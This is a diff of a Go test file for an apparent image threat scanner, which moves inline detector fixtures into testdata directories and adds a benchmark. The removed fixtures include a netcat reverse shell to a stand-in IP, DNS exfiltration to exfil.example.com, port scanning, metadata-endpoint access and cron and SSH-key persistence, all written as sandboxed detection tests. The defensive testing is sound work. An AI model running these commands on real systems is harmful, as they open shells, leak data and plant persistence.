@@ -1,12 +1,16 @@
 package image
 
 import (
+	"bufio"
 	"bytes"
 	"context"
 	"os"
 	"path/filepath"
+	"runtime"
 	"slices"
+	"strconv"
 	"strings"
+	"sync"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -19,56 +23,86 @@ import (
 	"github.com/secpipe/secpipe/internal/scan/threat/intel"
 )
 
-// threatFixtures are smoke tests of a busybox image, one per finding type:
-// each does what the type describes, and the verify run must report
-// exactly the listed types (tools such as nc bring their own finding).
-var threatFixtures = []struct {
-	name   string
-	script string
-	ports  []int
-	want   []string
-}{
-	{name: "clean", script: "cat /etc/os-release >/dev/null", want: nil},
-	{name: "c2-domain", script: "nslookup guarddutyc2activityb.com", want: []string{threat.TypeC2Domain}},
-	{name: "mining-domain", script: "nslookup pool.minexmr.com", want: []string{threat.TypeMiningDomain}},
-	{name: "mining-pool-port", script: "echo login | nc -w 1 198.51.100.7 3333",
-		want: []string{threat.TypeMiningNetwork, threat.TypeSuspiciousTool}},
-	{name: "stratum-url", script: "/bin/echo stratum+tcp://pool.example.net:3333 >/dev/null",
-		want: []string{threat.TypeMiningNetwork}},
-	{name: "miner", script: "cp /bin/busybox /tmp/xmrig; /tmp/xmrig --donate-level 1; true",
-		want: []string{threat.TypeMinerExecuted, threat.TypeNewBinary}},
-	{name: "dga", script: "nslookup xjwqkzvbnqpltrhg.com", want: []string{threat.TypeDGADomain}},
-	{name: "dns-exfiltration",
-		script: `for i in $(seq 1 25); do nslookup "$(printf 'a%031d' $i).exfil.example.com" >/dev/null; done`,
-		want:   []string{threat.TypeDNSExfiltration}},
-	{name: "threat-list-ip", script: "echo x | nc -w 1 203.0.113.50 443",
-		want: []string{threat.TypeMaliciousIP, threat.TypeSuspiciousTool}},
-	{name: "threat-list-domain", script: "nslookup evil.example", want: []string{threat.TypeMaliciousDomain}},
-	{name: "spambot", script: "echo HELO | nc -w 1 198.51.100.25 25",
-		want: []string{threat.TypeSpambot, threat.TypeSuspiciousTool}},
-	{name: "portscan", script: "for p in $(seq 1000 1030); do echo | nc -w 1 198.51.100.9 $p; done 2>/dev/null; true",
-		want: []string{threat.TypePortscan, threat.TypeSuspiciousTool}},
-	{name: "unusual-port", script: "echo x | nc -w 1 198.51.100.9 8080", ports: []int{443},
-		want: []string{threat.TypePortUnusual, threat.TypeSuspiciousTool}},
-	{name: "new-binary", script: "cp /bin/busybox /tmp/tool; /tmp/tool; true", want: []string{threat.TypeNewBinary}},
-	{name: "etc-write", script: "echo hi > /etc/motd", want: []string{threat.TypeSystemConfigModified}},
-	{name: "system-binary", script: "cp /bin/busybox /usr/bin/helper", want: []string{threat.TypeSystemBinaryModified}},
-	{name: "cron", script: "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/job",
-		want: []string{threat.TypeCronModified}},
-	{name: "authorized-keys", script: "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA' > /root/.ssh/authorized_keys",
-		want: []string{threat.TypeSSHKeysModified}},
-	{name: "reverse-shell", script: "nc 198.51.100.9 4444 -e /bin/sh; true",
-		want: []string{threat.TypeReverseShell, threat.TypeSuspiciousTool}},
-	{name: "package-manager", script: "cp /bin/busybox /tmp/apt-get; /tmp/apt-get install curl; true",
-		want: []string{threat.TypeNewBinary, threat.TypePackageManager}},
-	{name: "metadata", script: "echo x | nc -w 1 169.254.169.254 80",
-		want: []string{threat.TypeMetadataAccess, threat.TypeSuspiciousTool}},
+// fixturesDir holds one directory per threat fixture: install.sh installs
+// the fixture's behaviour as /usr/local/bin/service into a busybox image,
+// want.txt lists the finding types verify must report (one per line), and
+// the optional c2.txt and custom.txt are threat lists (command and control,
+// custom) and allowed-ports.txt the ports the image declares. smoke.sh,
+// the smoke test of every fixture, starts the service.
+const fixturesDir = "testdata/threat-fixtures"
+
+// fixture is one directory of fixturesDir.
+type fixture struct {
+	name  string
+	dir   string
+	want  []string
+	ports []int
+	intel *intel.Set
 }
 
-// TestThreatFixtures builds one busybox image and verifies it with each
-// fixture's smoke test (sandbox, sinkhole, strace), then checks that the
-// detectors report exactly the fixture's finding types.
-func TestThreatFixtures(t *testing.T) {
+// loadFixtures reads every fixture of fixturesDir.
+func loadFixtures(t testing.TB) []fixture {
+	t.Helper()
+	entries, err := os.ReadDir(fixturesDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var fxs []fixture
+	for _, e := range entries {
+		if !e.IsDir() {
+			continue
+		}
+		fx := fixture{name: e.Name(), dir: filepath.Join(fixturesDir, e.Name())}
+		fx.want = lines(t, filepath.Join(fx.dir, "want.txt"))
+		for _, p := range lines(t, filepath.Join(fx.dir, "allowed-ports.txt")) {
+			n, err := strconv.Atoi(p)
+			if err != nil {
+				t.Fatalf("%s: allowed-ports.txt: %v", fx.name, err)
+			}
+			fx.ports = append(fx.ports, n)
+		}
+		lists := intel.Default()
+		for file, cat := range map[string]intel.Category{"c2.txt": intel.CategoryC2, "custom.txt": intel.CategoryCustom} {
+			if _, err := os.Stat(filepath.Join(fx.dir, file)); err != nil {
+				continue
+			}
+			l, err := intel.LoadFile(filepath.Join(fx.dir, file), cat)
+			if err != nil {
+				t.Fatalf("%s: %v", fx.name, err)
+			}
+			lists = append(lists, l)
+		}
+		fx.intel = intel.NewSet(lists, nil)
+		fxs = append(fxs, fx)
+	}
+	return fxs
+}
+
+// lines returns the lines of a file that are not blank or # comments;
+// none when the file does not exist.
+func lines(t testing.TB, name string) []string {
+	t.Helper()
+	b, err := os.ReadFile(name)
+	if os.IsNotExist(err) {
+		return nil
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out []string
+	sc := bufio.NewScanner(bytes.NewReader(b))
+	for sc.Scan() {
+		if l := strings.TrimSpace(sc.Text()); l != "" && !strings.HasPrefix(l, "#") {
+			out = append(out, l)
+		}
+	}
+	return out
+}
+
+// needVerify skips the test when images cannot be verified here, and
+// fails it under CI, where they must be.
+func needVerify(t testing.TB) {
+	t.Helper()
 	for _, need := range []func() error{sandbox.Available, sinkhole.Available} {
 		if err := need(); err != nil {
 			if os.Getenv("CI") != "" {
@@ -77,62 +111,164 @@ func TestThreatFixtures(t *testing.T) {
 			t.Skip(err)
 		}
 	}
+	if _, err := os.Stat("/bin/busybox"); err != nil {
+		if os.Getenv("CI") != "" {
+			t.Fatal(err)
+		}
+		t.Skip("busybox-static is not installed: apt-get install busybox-static")
+	}
+}
+
+// verified is what building and verifying one fixture gave.
+type verified struct {
+	res       VerifyResult
+	events    bytes.Buffer
+	log       bytes.Buffer
+	buildErr  error
+	verifyErr error
+}
+
+// buildAndVerify builds fx's image into b's store and verifies it.
+func buildAndVerify(ctx context.Context, b *Builder, fx fixture, opts VerifySpec) *verified {
+	v := &verified{}
+	name := "fixture-" + fx.name
+	if _, v.buildErr = b.Build(ctx, Spec{Base: "busybox", Install: []string{filepath.Join(fx.dir, "install.sh")},
+		Context: fx.dir, Publish: name, Log: &v.log}); v.buildErr != nil {
+		return v
+	}
+	opts.Image, opts.Test, opts.Events, opts.Log = name, filepath.Join(fixturesDir, "smoke.sh"), &v.events, &v.log
+	v.res, v.verifyErr = b.Verify(ctx, opts)
+	return v
+}
+
+// findingTypes runs the detectors over a recording and returns the
+// finding types, sorted.
+func findingTypes(t *testing.T, fx fixture, events []byte) []string {
+	t.Helper()
+	var got []string
+	_, err := threat.Detect(context.Background(), threat.NewReader("events.jsonl", bytes.NewReader(events), threat.ReadOptions{}),
+		threat.Config{Intel: fx.intel, AllowedPorts: fx.ports}, func(f pipeline.Finding) error {
+			if !slices.Contains(got, f.RuleID) {
+				got = append(got, f.RuleID)
+			}
+			return nil
+		})
+	if err != nil {
+		t.Fatal(err)
+	}
+	slices.Sort(got)
+	return got
+}
+
+// TestThreatFixtures builds one busybox image per fixture with the image
+// builder and its install script, verifies each with the same smoke test
+// (sandbox, sinkhole, strace and fanotify), and checks that the detectors
+// report exactly the fixture's finding types; together the fixtures cover
+// every type, and the clean one none. Builds and verifies run a few at a
+// time.
+func TestThreatFixtures(t *testing.T) {
+	needVerify(t)
+	fxs := loadFixtures(t)
 	dir := t.TempDir()
 	store, err := imagestore.OpenStore(filepath.Join(dir, "images"))
 	if err != nil {
 		t.Fatal(err)
 	}
 	b := &Builder{Store: store, WorkDir: filepath.Join(dir, "work")}
-	ctx := context.Background()
-	if _, err := b.Build(ctx, Spec{Base: "busybox", Publish: "fixture"}); err != nil {
-		if os.Getenv("CI") != "" {
-			t.Fatal(err)
-		}
-		t.Skip(err)
+	results := make([]*verified, len(fxs))
+	sem := make(chan struct{}, 2*runtime.GOMAXPROCS(0))
+	var wg sync.WaitGroup
+	for i, fx := range fxs {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			sem <- struct{}{}
+			defer func() { <-sem }()
+			results[i] = buildAndVerify(context.Background(), b, fx, VerifySpec{})
+		}()
 	}
-	list, err := intel.Parse("custom.txt", strings.NewReader("203.0.113.50\nevil.example\n"), intel.CategoryCustom)
-	if err != nil {
-		t.Fatal(err)
-	}
-	set := intel.NewSet(append(intel.Default(), list), nil)
+	wg.Wait()
 	covered := map[string]bool{}
-	for _, fx := range threatFixtures {
+	for i, fx := range fxs {
 		t.Run(fx.name, func(t *testing.T) {
-			script := filepath.Join(t.TempDir(), "smoke.sh")
-			if err := os.WriteFile(script, []byte("#!/bin/sh\n"+fx.script+"\n"), 0o755); err != nil {
-				t.Fatal(err)
+			v := results[i]
+			if v.buildErr != nil {
+				t.Fatalf("Build: %v\n%s", v.buildErr, v.log.String())
 			}
-			var events, log bytes.Buffer
-			res, err := b.Verify(ctx, VerifySpec{Image: "fixture", Test: script, Events: &events, Log: &log})
-			if err != nil {
-				t.Fatalf("Verify: %v\n%s", err, log.String())
+			if v.verifyErr != nil {
+				t.Fatalf("Verify: %v\n%s", v.verifyErr, v.log.String())
 			}
-			if res.ExitCode != 0 {
-				t.Fatalf("smoke test exit %d:\n%s", res.ExitCode, log.String())
+			if v.res.ExitCode != 0 {
+				t.Fatalf("smoke test exit %d:\n%s", v.res.ExitCode, v.log.String())
 			}
-			var got []string
-			_, err = threat.Detect(ctx, threat.NewReader("events.jsonl", &events, threat.ReadOptions{}),
-				threat.Config{Intel: set, AllowedPorts: fx.ports}, func(f pipeline.Finding) error {
-					if !slices.Contains(got, f.RuleID) {
-						got = append(got, f.RuleID)
-					}
-					return nil
-				})
-			if err != nil {
-				t.Fatal(err)
-			}
-			slices.Sort(got)
-			want := slices.Clone(fx.want)
-			slices.Sort(want)
+			got := findingTypes(t, fx, v.events.Bytes())
+			want := slices.Sorted(slices.Values(fx.want))
 			if diff := cmp.Diff(want, got); diff != "" {
-				t.Errorf("finding types (-want +got):\n%s\nsmoke test output:\n%s", diff, log.String())
+				t.Errorf("finding types (-want +got):\n%s\nfiles recorded by %s; output:\n%s\nevents:\n%s", diff,
+					v.res.Files, v.log.String(), v.events.String())
 			}
-			for _, id := range got {
+			for _, id := range fx.want {
 				covered[id] = true
 			}
 		})
 	}
-	if n := len(covered); n < 12 {
-		t.Errorf("the fixtures cover %d finding types, want at least 12", n)
+	for _, ft := range threat.FindingTypes() {
+		if !covered[ft.ID] {
+			t.Errorf("no fixture gives %s", ft.ID)
+		}
 	}
+}
+
+// BenchmarkVerify times verify with telemetry of two fixture images, the
+// clean one and the port scan (31 programs started), recording file
+// changes with fanotify and with strace:
+//
+//	go test -run XXX -bench Verify -benchtime 1x -count 5 ./internal/provider/image/
+func BenchmarkVerify(b *testing.B) {
+	needVerify(b)
+	dir := b.TempDir()
+	store, err := imagestore.OpenStore(filepath.Join(dir, "images"))
+	if err != nil {
+		b.Fatal(err)
+	}
+	bld := &Builder{Store: store, WorkDir: filepath.Join(dir, "work")}
+	for _, fx := range loadFixtures(b) {
+		if fx.name != "clean" && fx.name != "portscan" {
+			continue
+		}
+		for _, mode := range []struct {
+			name  string
+			trace bool
+		}{{"fanotify", false}, {"strace", true}} {
+			b.Run(fx.name+"/"+mode.name, func(b *testing.B) {
+				for b.Loop() {
+					v := buildAndVerifyTimed(b, bld, fx, mode.trace)
+					if v.res.Files != mode.name {
+						b.Fatalf("files recorded by %q, want %q", v.res.Files, mode.name)
+					}
+				}
+			})
+		}
+	}
+}
+
+// buildAndVerifyTimed builds fx's image with the timer stopped, then
+// verifies it.
+func buildAndVerifyTimed(b *testing.B, bld *Builder, fx fixture, trace bool) *verified {
+	b.StopTimer()
+	v := &verified{}
+	name := "bench-" + fx.name
+	if _, err := bld.Store.Inspect(context.Background(), name); err != nil {
+		if _, err := bld.Build(context.Background(), Spec{Base: "busybox", Install: []string{filepath.Join(fx.dir, "install.sh")},
+			Context: fx.dir, Publish: name, Log: &v.log}); err != nil {
+			b.Fatalf("Build: %v\n%s", err, v.log.String())
+		}
+	}
+	b.StartTimer()
+	v.res, v.verifyErr = bld.Verify(context.Background(), VerifySpec{Image: name, Test: filepath.Join(fixturesDir, "smoke.sh"),
+		Events: &v.events, Log: &v.log, TraceFiles: trace})
+	if v.verifyErr != nil || v.res.ExitCode != 0 {
+		b.Fatalf("Verify: exit %d, %v\n%s", v.res.ExitCode, v.verifyErr, v.log.String())
+	}
+	return v
 }
